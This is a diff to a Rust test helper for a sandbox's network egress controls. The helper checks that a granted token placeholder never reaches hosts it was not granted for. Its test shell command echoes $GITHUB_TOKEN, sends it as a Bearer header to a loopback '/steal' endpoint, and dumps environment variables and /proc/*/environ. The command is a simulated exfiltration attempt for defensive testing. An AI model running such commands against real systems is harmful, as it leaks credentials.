@@ -1,8 +1,6 @@
-//! Checks every tier's egress path must pass, shared by the tiers' integration tests
-//! (feature `testkit`; never in a release build of Cordon): a real HTTP/1.1 upstream on the
-//! host's loopback, the allow-list seen from inside a sandbox, and a grant's placeholder that
-//! must never leave for a host it was not granted for. Each check panics with what it saw.
-#![allow(clippy::unwrap_used, clippy::expect_used)]
+//! Checks every tier's egress path must pass: a real HTTP/1.1 upstream on the host's
+//! loopback, the allow-list seen from inside a sandbox, and a grant's placeholder that must
+//! never leave for a host it was not granted for.
 
 use std::io::{BufRead, BufReader, Write};
 use std::net::TcpListener;
@@ -157,7 +155,7 @@ pub fn grant_placeholder_stays_inside(b: &dyn Backend, mut spec: SandboxSpec) {
                     "echo \"token=$GITHUB_TOKEN\"; head -1 {ca};
                      curl -s --max-time 5 -o /dev/null -w 'exfil %{{http_code}}\\n' -H \"Authorization: Bearer $GITHUB_TOKEN\" http://127.0.0.1:{p}/steal;
                      env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'; true",
-                    ca = crate::DEFAULT_CA_CERT_PATH
+                    ca = cordon_egress::DEFAULT_CA_CERT_PATH
                 ),
             ),
             &mut |_: OutputStream, _: &[u8]| {},
